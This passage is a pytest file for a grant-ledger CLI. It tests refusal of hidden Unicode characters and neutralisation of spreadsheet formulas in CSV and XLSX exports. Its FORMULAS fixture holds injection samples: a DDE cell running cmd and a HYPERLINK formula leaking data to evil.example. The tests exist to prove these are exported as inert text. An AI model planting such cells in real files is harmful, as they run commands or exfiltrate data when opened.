"""The one write path under attack: characters that hide in identifiers, cells that a spreadsheet
would run as formulas, and the promises of the import (one role, all or nothing, repeats) at the
edges of the new row kinds. Every check goes through the command line."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from tests.conftest import DISTRICT_BODIES, Ledger, approved_district_grant, selected
from tests.importdata import HEADER
from tests.test_actions import _csv_line, _stored

ID_RULE = "must be 1 to 64 characters without control characters, not starting with '-'"
VOUCHER_RULE = "must be 1 to 128 characters without control characters"


@pytest.fixture(scope="module")
def funded_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A ledger file with G1 approved and 12万 of its subsidy received."""
    path = tmp_path_factory.mktemp("funded") / "ledger.db"
    ledger = Ledger(f"sqlite:///{path}", CliRunner())
    approved_district_grant(ledger)
    ledger.ok("disburse", "G1", "--amount", "12万", "--voucher", "T1", "--date", "2024-04-10")
    return path


def _two_ledgers(funded_file: Path, folder: Path) -> tuple[Ledger, Ledger]:
    ledgers = []
    for name in ("imported.db", "typed.db"):
        shutil.copy(funded_file, folder / name)
        ledgers.append(Ledger(f"sqlite:///{folder / name}", CliRunner(), create=False))
    return ledgers[0], ledgers[1]


def _spend_both_ways(funded_file: Path, folder: Path, voucher: str, grant: str = "G1") -> tuple:
    imported, typed = _two_ledgers(funded_file, folder)
    book = folder / "books.csv"
    cells = ["2024-05-10", "", "", grant, "", "spend", "100", "subsidy", "equipment", "", voucher, "", ""]
    book.write_text(f"{HEADER}\n{_csv_line(cells)}\n", encoding="utf-8")
    by_file = imported("import", str(book))
    by_hand = typed("spend", grant, "--amount", "100", "--category", "equipment", "--voucher", voucher,
                    "--date", "2024-05-10")  # fmt: skip
    return imported, typed, by_file, by_hand


# Each looks like S1 (or nothing at all) on a screen and in a printed voucher list.
HIDDEN = {
    "zero-width space": "S1\u200b",
    "zero-width joiner inside": "S\u200d1",
    "right-to-left override": "S\u202e1",
    "byte-order mark": "\ufeffS1",
    "soft hyphen": "S\u00ad1",
    "word joiner": "S\u20601",
    "next line (C1 control)": "S\x851",
    "line separator inside": "S\u20281",
    "unit separator at the start": "\x1fS1",
    "record separator at the end": "S1\x1e",
}


@pytest.mark.parametrize("name", list(HIDDEN))
def test_a_voucher_hiding_an_invisible_character_is_refused_by_the_file_and_the_command_alike(
    funded_file: Path, tmp_path: Path, name: str
) -> None:
    """Taken, "S1" with a zero-width space is a second expenditure under the number S1 already
    has: the same payment recorded twice, and no voucher list shows why. The importer also used to
    strip U+001C..U+001F off a cell's ends, recording what the command refused. (The file names
    the cell and the character, the command its option and the rule: the same refusal.)"""
    voucher = HIDDEN[name]
    imported, typed, by_file, by_hand = _spend_both_ways(funded_file, tmp_path, voucher)
    assert by_hand.exit_code == 2, by_hand.stdout
    assert f"--voucher: {VOUCHER_RULE} (got {voucher!r})" in by_hand.stderr
    assert by_file.exit_code == 2, by_file.stdout
    hidden = next(c for c in voucher if c not in "S1")
    assert f"books.csv:2: voucher holds a control character (U+{ord(hidden):04X})" in by_file.stderr
    assert _stored(imported.url) == _stored(typed.url) == _stored(f"sqlite:///{funded_file}")


def test_a_grant_id_with_a_zero_width_space_is_refused_not_reported_missing(
    funded_file: Path, tmp_path: Path
) -> None:
    grant = "G1\u200b"
    _, _, by_file, by_hand = _spend_both_ways(funded_file, tmp_path, "S1", grant=grant)
    assert by_hand.exit_code == by_file.exit_code == 2
    assert f"GRANT_ID: {ID_RULE} (got {grant!r})" in by_hand.stderr
    assert "books.csv:2: grant_id holds a control character (U+200B)" in by_file.stderr


@pytest.mark.parametrize("padded", [" S1 ", "\u00a0S1", "S1\u3000", "\u2028S1\u2029", "\tS1\n"])
def test_white_space_around_a_voucher_is_taken_off_by_both_paths_alike(
    funded_file: Path, tmp_path: Path, padded: str
) -> None:
    imported, typed, by_file, by_hand = _spend_both_ways(funded_file, tmp_path, padded)
    assert by_hand.exit_code == by_file.exit_code == 0, (by_hand.stderr, by_file.stderr)
    assert _stored(imported.url) == _stored(typed.url)
    assert _stored(typed.url)[-1][1]["voucher"] == "S1"


@pytest.mark.parametrize("day", [" 2024-05-10", "2024-05-10\u3000", "\u00a02024-05-10 "])
def test_white_space_around_a_date_is_taken_off_by_both_paths_alike(
    funded_file: Path, tmp_path: Path, day: str
) -> None:
    """The importer strips its cells; --date used to be judged as typed, and refused."""
    imported, typed = _two_ledgers(funded_file, tmp_path)
    cells = [day, "", "", "G1", "", "spend", "100", "subsidy", "equipment", "", "S1", "", ""]
    book = tmp_path / "books.csv"
    book.write_text(f"{HEADER}\n{_csv_line(cells)}\n", encoding="utf-8")
    by_file = imported("import", str(book))
    by_hand = typed("spend", "G1", "--amount", "100", "--category", "equipment", "--voucher", "S1",
                    "--date", day)  # fmt: skip
    assert by_hand.exit_code == by_file.exit_code == 0, (by_hand.stderr, by_file.stderr)
    assert _stored(imported.url) == _stored(typed.url)
    assert _stored(typed.url)[-1][1]["occurred_on"] == {"_type_": "date_iso", "_data_": "2024-05-10"}


def test_a_memo_hiding_a_bidirectional_override_is_refused_by_both_paths(
    funded_file: Path, tmp_path: Path
) -> None:
    """An override reverses what follows it on screen: 'pay 0001 to' can print as 'pay 1000 to'."""
    memo = "付款\u202e0001"
    imported, typed = _two_ledgers(funded_file, tmp_path)
    cells = ["2024-05-10", "", "", "G1", "", "spend", "100", "subsidy", "equipment", "", "S1", "", memo]
    book = tmp_path / "books.csv"
    book.write_text(f"{HEADER}\n{_csv_line(cells)}\n", encoding="utf-8")
    by_file = imported("import", str(book))
    by_hand = typed("spend", "G1", "--amount", "100", "--category", "equipment", "--voucher", "S1",
                    "--memo", memo, "--date", "2024-05-10")  # fmt: skip
    rule = "must be at most 500 characters without control characters"
    assert by_hand.exit_code == by_file.exit_code == 2
    assert f"--memo: {rule}" in by_hand.stderr
    assert "books.csv:2: memo holds a control character (U+202E)" in by_file.stderr
    assert _stored(imported.url) == _stored(typed.url) == _stored(f"sqlite:///{funded_file}")


# ----------------------------------------------------------------------------- formulas in exports

# What a spreadsheet runs when the file is opened: each starts a formula in Excel and LibreOffice.
FORMULAS = {
    "unit": '=cmd|" /C calc"!A0',
    "base": '+渝中区"培训",基地',
    "payee": '=HYPERLINK("http://evil.example/?d="&A1,"发票")',
    "memo": "@SUM(1+1)\t备注",
    "project": "-2+3",
    "voucher": "''=记-1",  # two apostrophes of its own: read back as typed
}


def _hostile_books(ledger: Ledger) -> None:
    """G1 with names, a payee, a memo and a voucher a spreadsheet would run; G2 approved with no
    money at all."""
    for grant, base, unit in (("G1", "B0001", "U1"), ("G2", "B0002", "@U2")):
        ledger.ok("unit", "register", unit, "--name", FORMULAS["unit"], "--date", "2024-02-01")
        ledger.ok("grant", "apply", grant, "--unit", unit, "--base", base, "--base-name", FORMULAS["base"],
                  "--programme", "district_base", "--project", "电工", "--amount", "20万",
                  "--date", "2024-03-01")  # fmt: skip
        ledger.ok("grant", "review", grant, "--panel", "5", "--recommendation", "recommend",
                  "--date", "2024-03-08", role="approver")  # fmt: skip
        ledger.ok("grant", "notice", grant, "--from", "2024-03-11", "--to", "2024-03-15", role="approver")
        ledger.ok("grant", "approve", grant, "--amount", "200000", "--document", f"=渝人社{grant}",
            *DISTRICT_BODIES,
                  "--date", "2024-04-01", role="approver")  # fmt: skip
    ledger.ok("disburse", "G1", "--amount", "12万", "--voucher", "-T1", "--date", "2024-04-10")
    ledger.ok("spend", "G1", "--amount", "1000.01", "--category", "equipment",
              "--voucher", FORMULAS["voucher"], "--payee", FORMULAS["payee"], "--memo", FORMULAS["memo"],
              "--project", FORMULAS["project"],
              "--date", "2024-05-10")  # fmt: skip
    ledger.ok("spend", "G1", "--amount", "99.99", "--category", "materials", "--voucher", "@S2",
              "--date", "2024-05-11")  # fmt: skip
    ledger.ok("reverse", "G1", "--voucher", "@S2", "--reason", "=重复入账", "--date", "2024-05-12")
    ledger.ok("recover", "order", "G1", "--amount", "500", "--reason", "-违规", "--document", "+追-1",
              "--date", "2024-06-01", role="approver")  # fmt: skip
    ledger.ok("recover", "receive", "G1", "--amount", "500", "--voucher", "=缴-1", "--date", "2024-06-10")
    ledger.ok("dispose", "G1", "--source", "subsidy", "--amount", "0.01", "--how", "returned",
              "--approval", "@批-9", "--date", "2024-06-20")  # fmt: skip


def _runs_formulas(cells: list[object]) -> bool:
    return any(isinstance(c, str) and c[:1] in ("=", "+", "-", "@") for c in cells)


def test_the_csv_export_writes_no_cell_a_spreadsheet_would_run_and_round_trips_exactly(
    sqlite_ledger: Ledger, tmp_path: Path
) -> None:
    import csv

    _hostile_books(sqlite_ledger)
    exported = sqlite_ledger.ok("export", "--format", "csv").stdout
    path = tmp_path / "books.csv"
    path.write_text(exported, encoding="utf-8")
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert not [row for row in rows if _runs_formulas(row)]
    spend = next(row for row in rows if row[5] == "spend")
    assert spend[10:13] == ["'''=记-1", f"'{FORMULAS['payee']}", f"'{FORMULAS['memo']}"]
    other = Ledger(f"sqlite:///{tmp_path / 'other.db'}", CliRunner())
    other.import_ok(path)
    assert other.balances() == sqlite_ledger.balances()
    assert other.ok("export", "--format", "csv").stdout == exported
    report = ("report", "sources", "--format", "json")
    assert other.ok(*report).stdout == sqlite_ledger.ok(*report).stdout
    events = sqlite_ledger.event_count()
    for again in sqlite_ledger.import_ok(path):  # into the ledger it came from: all known
        assert "nothing written" in again.stdout
    assert sqlite_ledger.event_count() == events


def test_the_xlsx_export_and_its_runs_hold_text_not_formulas_and_round_trip_exactly(
    sqlite_ledger: Ledger, tmp_path: Path
) -> None:
    """openpyxl writes a str starting with '=' as a formula: Excel ran it on opening, and the
    import (reading the cells' values) read it as an empty cell, dropping the payee silently. A
    workbook holds the text exactly, as text cells marked as typed text (no apostrophe in them)."""
    from openpyxl import load_workbook

    _hostile_books(sqlite_ledger)
    exported = sqlite_ledger.ok("export", "--format", "csv").stdout
    runs = tmp_path / "runs"
    sqlite_ledger.ok("export", "--format", "xlsx", "--runs", str(runs))
    files = sorted(runs.iterdir())
    assert [f.name for f in files] == ["01-approver.xlsx", "02-officer.xlsx", "03-approver.xlsx",
                                       "04-officer.xlsx"]  # fmt: skip
    other = Ledger(f"sqlite:///{tmp_path / 'other.db'}", CliRunner())
    values = []
    for path in files:
        book = load_workbook(path)
        cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], path.name
        hostile = [c for c in cells if _runs_formulas([c.value])]
        assert all(c.data_type == "s" and c.quotePrefix for c in hostile), path.name
        values += [c.value for c in cells]
        other.ok("import", str(path), role=path.stem.split("-")[1])
    assert other.balances() == sqlite_ledger.balances()
    assert other.ok("export", "--format", "csv").stdout == exported
    assert {FORMULAS["voucher"], FORMULAS["payee"], FORMULAS["memo"], "=重复入账"} <= set(values)


def test_a_report_workbook_holds_a_base_name_as_text_not_as_a_formula(
    sqlite_ledger: Ledger, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    sqlite_ledger.ok("unit", "register", "U1", "--name", "单位", "--date", "2024-02-01")
    sqlite_ledger.ok("grant", "apply", "G1", "--unit", "U1", "--base", "B0001", "--base-name", "=1+1",
                     "--programme", "district_base", "--project", "电工", "--amount", "20万",
                     "--date", "2024-03-01")  # fmt: skip
    out = tmp_path / "balance.xlsx"
    sqlite_ledger.ok("balance", "--format", "xlsx", "--output", str(out))
    cells = [cell for row in load_workbook(out).worksheets[0].iter_rows() for cell in row]
    assert "=1+1" in [c.value for c in cells if c.data_type == "s"]
    assert not [c.coordinate for c in cells if c.data_type == "f"]


# ----------------------------------------------------------------------------- one role per act

# Every act a person records, typed as its command, with the role that records it.
D = ("--date", "2024-06-30")
ACTS = [
    ("officer", ["unit", "register", "U9", "--name", "单位U9", *D]),
    ("officer", ["grant", "apply", "G9", "--unit", "U1", "--base", "B0009", "--programme", "district_base",
                 "--project", "电工", "--amount", "20万", *D]),
    ("officer", ["grant", "budget", "G1", "--line", "training_system:地方财政:10万", *D]),
    ("officer", ["disburse", "G1", "--amount", "1万", "--voucher", "T9", *D]),
    ("officer", ["match", "commit", "G1", "--amount", "1万", "--funder", "单位U1", "--voucher", "MC9", *D]),
    ("officer", ["match", "receive", "G1", "--amount", "1万", "--voucher", "MR9", *D]),
    ("officer", ["spend", "G1", "--amount", "100", "--category", "equipment", "--voucher", "S9", *D]),
    ("officer", ["reverse", "G1", "--voucher", "S9", "--reason", "重复入账", *D]),
    ("officer", ["recover", "receive", "G1", "--amount", "100", "--voucher", "RR9", *D]),
    ("officer", ["dispose", "G1", "--source", "subsidy", "--amount", "100", "--how", "returned",
                 "--approval", "批-9", *D]),
    ("officer", ["output", "report", "G1", "--year", "2024", "--trainees", "10", *D]),
    ("officer", ["rectify", "complete", "G1", "--ref", "R9", *D]),
    ("officer", ["dossier", "add", "G1", "--kind", "summary", "--title", "总结", "--file", "{file}", *D]),
    ("approver", ["grant", "recommend", "G1", "--by", "区人社局", "--round", "2024", *D]),
    ("approver", ["grant", "review", "G1", "--panel", "5", "--recommendation", "recommend", *D]),
    ("approver", ["grant", "notice", "G1", "--from", "2024-03-11", "--to", "2024-03-15", *D]),
    ("approver", ["grant", "approve", "G1", "--amount", "200000", "--document", "渝人社-9",
        *DISTRICT_BODIES, *D]),
    ("approver", ["grant", "reject", "G1", "--reason", "评审未通过", *D]),
    ("approver", ["grant", "adjust", "G1", "--line", "training_system:地方财政:12万",
                  "--approval", "批-8", *D]),
    ("approver", ["evaluate", "G1", "--kind", "mid_term", "--result", "pass", *D]),
    ("approver", ["rectify", "order", "G1", "--ref", "R9", "--finding", "台账不全", "--deadline",
                  "2024-09-30", *D]),
    ("approver", ["recover", "order", "G1", "--amount", "100", "--reason", "违规", "--document", "追-9", *D]),
    ("approver", ["grant", "close", "G1", *D]),
]  # fmt: skip


def test_no_command_lets_one_role_record_another_roles_act_and_an_auditor_records_nothing(
    funded_file: Path, tmp_path: Path
) -> None:
    shutil.copy(funded_file, tmp_path / "ledger.db")
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}", CliRunner(), create=False)
    document = tmp_path / "总结.pdf"
    document.write_bytes(b"%PDF-1.4 summary")
    before = _stored(ledger.url)
    for owner, command in ACTS:
        args = [str(document) if a == "{file}" else a for a in command]
        for role in {"officer", "approver", "auditor"} - {owner}:
            result = ledger(*args, role=role)
            assert result.exit_code == 3, (role, args, result.stdout, result.stderr)
            assert f"the {role} role may not record '" in result.stderr, (role, args, result.stderr)
            by = "an officer" if owner == "officer" else "an approver"
            assert f"it is recorded by {by}" in result.stderr
        assert "role may not record" not in ledger(*args, role=owner).stderr, (owner, args)
    assert len(_stored(ledger.url)) > len(before)  # the owners' acts were taken (most of them)
    assert {"officer", "approver"} == {owner for owner, _ in ACTS}


@pytest.mark.parametrize("role", ["officer", "approver", "auditor"])
def test_a_file_mixing_both_roles_acts_writes_nothing_whoever_imports_it(
    funded_file: Path, tmp_path: Path, role: str
) -> None:
    shutil.copy(funded_file, tmp_path / "ledger.db")
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}", CliRunner(), create=False)
    rows = [
        ["2024-06-01", "", "B0001", "G1", "", "recover_order", "500", "subsidy", "", "", "追-1", "", "违规"],
        ["2024-06-10", "", "B0001", "G1", "", "recover_receive", "500", "subsidy", "", "", "缴-1", "", ""],
        ["2024-06-20", "", "B0001", "G1", "", "dispose", "100", "subsidy", "", "", "批-1", "", "returned"],
    ]
    book = tmp_path / "books.csv"
    book.write_text("\n".join([HEADER, *map(_csv_line, rows)]) + "\n", encoding="utf-8")
    before = _stored(ledger.url)
    result = ledger("import", str(book), role=role)
    assert result.exit_code == 3, result.stdout
    assert f"the {role} role may not record '" in result.stderr
    assert "nothing was imported" in result.stderr
    assert _stored(ledger.url) == before


# ----------------------------------------------------------------------------- the new row kinds


def _ordered(funded_file: Path, tmp_path: Path) -> Ledger:
    """G1 with 12万 of subsidy received and a recovery of 5,000 ordered (none received)."""
    shutil.copy(funded_file, tmp_path / "ledger.db")
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}", CliRunner(), create=False)
    ledger.ok("recover", "order", "G1", "--amount", "5000", "--reason", "违规列支", "--document", "追-1",
              "--date", "2024-06-01", role="approver")  # fmt: skip
    return ledger


def _book(tmp_path: Path, *rows: list[str], name: str = "books.csv") -> Path:
    path = tmp_path / name
    path.write_text("\n".join([HEADER, *map(_csv_line, rows)]) + "\n", encoding="utf-8")
    return path


def _row(day: str, kind: str, amount: str, voucher: str, memo: str = "", **cells: str) -> list[str]:
    row = [day, "", "B0001", "G1", "", kind, amount, cells.get("source", "subsidy"),
           cells.get("category", ""), "", voucher, "", memo]  # fmt: skip
    return row


def test_disposing_of_the_subsidy_an_ordered_recovery_still_owes_is_refused_by_both_paths(
    funded_file: Path, tmp_path: Path
) -> None:
    """Disposing of the whole balance left the ordered 5,000 unreceivable (the receipt broke the
    ring-fence) and the grant unclosable (recoveries not settled): a dead end in the books."""
    ledger = _ordered(funded_file, tmp_path)
    before = _stored(ledger.url)
    typed = ledger("dispose", "G1", "--source", "subsidy", "--amount", "120000", "--how", "returned",
                   "--approval", "批-1", "--date", "2024-06-05")  # fmt: skip
    sentence = (
        "disposing of 120,000.00 of the subsidy (财政补助) of grant G1 would leave 0.00 for the "
        "5,000.00 of ordered recoveries not yet received; record the recovery (grant-ledger recover "
        "receive) first — recoveries before disposal"
    )
    assert typed.exit_code == 3 and sentence in typed.stderr, typed.stderr
    imported = ledger(
        "import", str(_book(tmp_path, _row("2024-06-05", "dispose", "120000", "批-1", "returned")))
    )
    assert imported.exit_code == 3 and f"books.csv:2: {sentence}" in imported.stderr, imported.stderr
    assert _stored(ledger.url) == before
    ledger.ok("dispose", "G1", "--source", "subsidy", "--amount", "115000", "--how", "returned",
              "--approval", "批-1", "--date", "2024-06-05")  # fmt: skip
    ledger.ok("recover", "receive", "G1", "--amount", "5000", "--voucher", "缴-1", "--date", "2024-06-10")
    held = ledger.balances()["B0001"]
    assert (held["subsidy_available"], held["subsidy_recovered"], held["subsidy_disposed"]) == (
        "0.00",
        "5000.00",
        "115000.00",
    )


@pytest.mark.parametrize(
    "bad",
    [
        _row("2024-06-10", "recover_receive", "5000.01", "缴-1"),  # beyond its order
        _row("2024-06-20", "dispose", "130000", "批-1", "returned"),  # more than held
        _row("2024-06-20", "dispose", "116000", "批-1", "returned"),  # into the recovery owed
        _row("2024-06-20", "dispose", "100", "批-1", "given_away"),
    ],
)
def test_one_bad_row_of_a_new_kind_writes_nothing_of_the_file(
    funded_file: Path, tmp_path: Path, bad: list[str]
) -> None:
    ledger = _ordered(funded_file, tmp_path)
    before = _stored(ledger.url)
    good = [
        _row("2024-05-10", "spend", "100", "S1", category="equipment"),
        _row("2024-06-02", "recover_receive", "1000", "缴-0"),
        bad,
        _row("2024-06-21", "dispose", "100", "批-2", "carried_forward", source="subsidy"),
    ]
    result = ledger("import", str(_book(tmp_path, *good)))
    assert result.exit_code in (2, 3), result.stdout
    assert "books.csv:4: " in result.stderr and "1 bad row of 4" in result.stderr, result.stderr
    assert _stored(ledger.url) == before


def test_the_new_kinds_repeated_record_nothing_and_a_voucher_reused_is_a_conflict_in_both_paths(
    funded_file: Path, tmp_path: Path
) -> None:
    ledger = _ordered(funded_file, tmp_path)
    receipt = _row("2024-06-10", "recover_receive", "5000", "缴-1")
    disposal = _row("2024-06-20", "dispose", "100", "批-1", "carried_forward")
    book = _book(tmp_path, receipt, disposal)
    assert "2 events recorded" in ledger.ok("import", str(book)).stdout
    recorded = _stored(ledger.url)
    assert "nothing written" in ledger.ok("import", str(book)).stdout
    receive = ["recover", "receive", "G1", "--amount", "5000", "--voucher", "缴-1", "--date", "2024-06-10"]
    assert "nothing written" in ledger.ok(*receive).stdout
    dispose = ["dispose", "G1", "--source", "subsidy", "--amount", "100", "--how", "carried_forward",
               "--approval", "批-1", "--date", "2024-06-20"]  # fmt: skip
    assert "nothing written" in ledger.ok(*dispose).stdout
    order = ["recover", "order", "G1", "--amount", "5000", "--reason", "违规列支", "--document", "追-1",
             "--date", "2024-06-01"]  # fmt: skip
    assert "nothing written" in ledger.ok(*order, role="approver").stdout
    conflicts = [
        (_row("2024-06-10", "recover_receive", "4000", "缴-1"),
         ["recover", "receive", "G1", "--amount", "4000", "--voucher", "缴-1", "--date", "2024-06-10"],
         "officer"),
        (_row("2024-06-20", "dispose", "200", "批-1", "carried_forward"),
         ["dispose", "G1", "--source", "subsidy", "--amount", "200", "--how", "carried_forward",
          "--approval", "批-1", "--date", "2024-06-20"], "officer"),
        (_row("2024-06-01", "recover_order", "6000", "追-1", "违规列支"),
         ["recover", "order", "G1", "--amount", "6000", "--reason", "违规列支", "--document", "追-1",
          "--date", "2024-06-01"], "approver"),
    ]  # fmt: skip
    for row, command, role in conflicts:
        imported = ledger("import", str(_book(tmp_path, row, name="again.csv")), role=role)
        typed = ledger(*command, role=role)
        assert imported.exit_code == typed.exit_code == 5, (imported.stderr, typed.stderr)
        assert typed.stderr.removeprefix("grant-ledger: ").strip() in imported.stderr
    assert _stored(ledger.url) == recorded


# ----------------------------------------------------------------------------- approvals


@pytest.mark.parametrize("selection", ["none", "unfavourable", "objections"])
def test_an_approve_row_for_a_grant_applied_here_needs_its_selection_as_grant_approve_does(
    sqlite_ledger: Ledger, tmp_path: Path, selection: str
) -> None:
    """The import skipped the selection steps for every approve row, so an approver could approve
    by file a grant the expert panel advised against, or whose public notice drew objections,
    which `grant approve` refuses. Only a grant brought in whole (not applied here) skips them."""
    sqlite_ledger.ok("unit", "register", "U1", "--name", "单位U1", "--date", "2024-02-01")
    sqlite_ledger.ok("grant", "apply", "G1", "--unit", "U1", "--base", "B0001",
                     "--programme", "district_base", "--project", "电工", "--amount", "20万",
                     "--date", "2024-03-01")  # fmt: skip
    if selection != "none":
        verdict = "reject" if selection == "unfavourable" else "recommend"
        sqlite_ledger.ok("grant", "review", "G1", "--panel", "5", "--recommendation", verdict,
                         "--date", "2024-03-08", role="approver")  # fmt: skip
        objections = "1" if selection == "objections" else "0"
        sqlite_ledger.ok("grant", "notice", "G1", "--from", "2024-03-11", "--to", "2024-03-15",
                         "--objections", objections, role="approver")  # fmt: skip
    assert "selection first" in _refused_alike(sqlite_ledger, tmp_path, *DISTRICT_BODIES)


def _refused_alike(ledger: Ledger, tmp_path: Path, *bodies: str) -> str:
    """G1's approval of 200,000.00 typed (`grant approve`, naming ``bodies``) and as an approve row:
    each refused (exit 3) with the same sentence, nothing written; that sentence."""
    before = _stored(ledger.url)
    typed = ledger("grant", "approve", "G1", "--amount", "200000", "--document", "渝人社〔2024〕1号",
                   *bodies, "--date", "2024-04-01", role="approver")  # fmt: skip
    assert typed.exit_code == 3, typed.stderr
    row = ["2024-04-01", "U1", "B0001", "G1", "district_base", "approve", "200000", "", "", "",
           "渝人社〔2024〕1号", "", ""]  # fmt: skip
    imported = ledger("import", str(_book(tmp_path, row)), role="approver")
    assert imported.exit_code == 3, imported.stdout
    assert typed.stderr.removeprefix("grant-ledger: ").strip() in imported.stderr
    assert _stored(ledger.url) == before
    return typed.stderr


def test_an_approve_row_for_a_grant_applied_here_is_refused_as_grant_approve_naming_no_body_is(
    sqlite_ledger: Ledger, tmp_path: Path
) -> None:
    """A grant applied for here is approved naming the registered bodies that approve it (003
    第七条: the district's 人力社保局 and 财政局); an approve row names none, yet the import approved
    it, writing the programme's bodies in, where `grant approve` without --body is refused."""
    sqlite_ledger.ok("unit", "register", "U1", "--name", "单位U1", "--date", "2024-02-01")
    sqlite_ledger.ok("grant", "apply", "G1", "--unit", "U1", "--base", "B0001",
                     "--programme", "district_base", "--project", "电工", "--amount", "20万",
                     "--date", "2024-03-01")  # fmt: skip
    selected(sqlite_ledger, "G1")
    assert "approving bodies" in _refused_alike(sqlite_ledger, tmp_path)  # no --body
    sqlite_ledger.ok("grant", "approve", "G1", "--amount", "200000", "--document", "渝人社〔2024〕1号",
                     *DISTRICT_BODIES, "--date", "2024-04-01", role="approver")  # fmt: skip
    assert sqlite_ledger.balances()["B0001"]["status"] == "approved"


@pytest.mark.parametrize("unit", ["new", "registered"])
def test_a_refused_approve_row_leaves_nothing_behind_for_the_rows_after_it(
    sqlite_ledger: Ledger, tmp_path: Path, unit: str
) -> None:
    """An approve row registers its unit (or takes a base on a registered one) and makes its
    grant before the approval is judged; refused (a district subsidy is 200,000.00), what it made
    stayed in the import's books, and the corrected row after it was reported bad too ("no expert
    review is recorded", or the base already taken). Only the bad row is listed now."""
    if unit == "registered":
        sqlite_ledger.ok("unit", "register", "U5", "--name", "单位U5", "--date", "2024-01-02")

    def approve(amount: str) -> list[str]:
        return [
            "2024-01-20",
            "U5",
            "B5",
            "G5",
            "district_base",
            "approve",
            amount,
            "",
            "",
            "",
            "批复5",
            "",
            "",
        ]

    before = _stored(sqlite_ledger.url)
    result = sqlite_ledger(
        "import", str(_book(tmp_path, approve("300000"), approve("200000"))), role="approver"
    )
    assert result.exit_code == 3, result.stdout
    bad = [line.split(":")[1] for line in result.stderr.splitlines() if line.startswith("books.csv:")]
    assert bad == ["2"] and "1 bad row of 2" in result.stderr, result.stderr
    assert _stored(sqlite_ledger.url) == before
    sqlite_ledger.ok("import", str(_book(tmp_path, approve("200000"))), role="approver")
    assert sqlite_ledger.balances()["B5"]["status"] == "approved"


@pytest.mark.parametrize("state", ["rejected", "approved"])
def test_an_approve_row_for_a_grant_rejected_or_approved_on_other_terms_is_refused_as_grant_approve_is(
    sqlite_ledger: Ledger, tmp_path: Path, state: str
) -> None:
    """The import said exit 5, "grant G1 is already approved (0.00 yuan, )", of a rejected grant."""
    if state == "rejected":
        sqlite_ledger.ok("unit", "register", "U1", "--name", "单位U1", "--date", "2024-02-01")
        sqlite_ledger.ok("grant", "apply", "G1", "--unit", "U1", "--base", "B0001",
                         "--programme", "district_base", "--project", "电工", "--amount", "20万",
                         "--date", "2024-03-01")  # fmt: skip
        sqlite_ledger.ok(
            "grant", "reject", "G1", "--reason", "评审未通过", "--date", "2024-03-05", role="approver"
        )
    else:
        approved_district_grant(sqlite_ledger)
    before = _stored(sqlite_ledger.url)
    typed = sqlite_ledger("grant", "approve", "G1", "--amount", "150000", "--document", "渝人社〔2024〕9号",
        *DISTRICT_BODIES,
                          "--date", "2024-04-02", role="approver")  # fmt: skip
    assert typed.exit_code == 3, typed.stderr
    assert f"grant G1 is {state}; only an application can be approved" in typed.stderr
    row = ["2024-04-02", "U1", "B0001", "G1", "district_base", "approve", "150000", "", "", "",
           "渝人社〔2024〕9号", "", ""]  # fmt: skip
    imported = sqlite_ledger("import", str(_book(tmp_path, row)), role="approver")
    assert imported.exit_code == 3, imported.stderr
    assert typed.stderr.removeprefix("grant-ledger: ").strip() in imported.stderr
    assert _stored(sqlite_ledger.url) == before


@pytest.mark.parametrize("tranche", ["1.0", "２", "٢", "1_0", "+2", "2e0"])
def test_a_tranche_number_is_read_the_same_way_by_the_file_and_the_command(
    funded_file: Path, tmp_path: Path, tranche: str
) -> None:
    """click's int took １ and ٣ (and 1_0 as 10), which the import refused; pydantic took 1.0 in
    the file, which the command refused. Digits only, in both."""
    imported, typed = _two_ledgers(funded_file, tmp_path)
    book = _book(tmp_path, _row("2024-05-10", "disburse", "1000", "T2", tranche))
    by_file = imported("import", str(book))
    by_hand = typed("disburse", "G1", "--amount", "1000", "--voucher", "T2", "--tranche", tranche,
                    "--date", "2024-05-10")  # fmt: skip
    rule = f"{tranche!r} is not a whole number; write it in digits, e.g. 2"
    assert by_hand.exit_code == by_file.exit_code == 2, (by_hand.stderr, by_file.stderr)
    assert f"--tranche: {rule}" in by_hand.stderr
    assert f"books.csv:2: memo: {rule}" in by_file.stderr
    assert _stored(imported.url) == _stored(typed.url) == _stored(f"sqlite:///{funded_file}")


def test_a_tranche_number_with_a_leading_zero_is_the_same_event_both_ways(
    funded_file: Path, tmp_path: Path
) -> None:
    imported, typed = _two_ledgers(funded_file, tmp_path)
    imported.ok("import", str(_book(tmp_path, _row("2024-05-10", "disburse", "1000", "T2", " 02"))))
    typed.ok(
        "disburse", "G1", "--amount", "1000", "--voucher", "T2", "--tranche", "02", "--date", "2024-05-10"
    )
    assert _stored(imported.url) == _stored(typed.url)
    assert _stored(typed.url)[-1][1]["tranche"] == 2


@pytest.mark.parametrize(
    ("column", "value", "sentence"),
    [
        (1, "U2", "grant G1 belongs to unit U1, not U2"),
        (4, "municipal_base", "grant G1 belongs to programme district_base, not municipal_base"),
        (7, "matching", "source: a disburse row moves the subsidy fund source, not 'matching'"),
    ],
)
def test_a_money_row_naming_another_unit_programme_or_fund_source_is_refused_not_ignored(
    funded_file: Path, tmp_path: Path, column: int, value: str, sentence: str
) -> None:
    """A disbursement row saying 'matching' was recorded as subsidy received; a row naming
    another unit or programme was recorded on G1 all the same (its base was already checked)."""
    shutil.copy(funded_file, tmp_path / "ledger.db")
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}", CliRunner(), create=False)
    before = _stored(ledger.url)
    row = _row("2024-05-10", "disburse", "1000", "T2", "2")
    row[column] = value
    result = ledger("import", str(_book(tmp_path, row)))
    assert result.exit_code == 2, result.stdout
    assert f"books.csv:2: {sentence}" in result.stderr
    assert _stored(ledger.url) == before
    row[1], row[4], row[7] = "U1", "district_base", "subsidy"  # what they are: taken
    ledger.ok("import", str(_book(tmp_path, row)))
    assert ledger.balances()["B0001"]["subsidy_received"] == "121000.00"


# ----------------------------------------------------------------------------- journals


def test_bases_whose_ids_are_not_account_names_keep_accounts_of_their_own_in_the_journals(
    sqlite_ledger: Ledger,
) -> None:
    """渝中基地 and 江北基地 were both 'X', b0001 and B0001 both 'B0001': the journals summed two
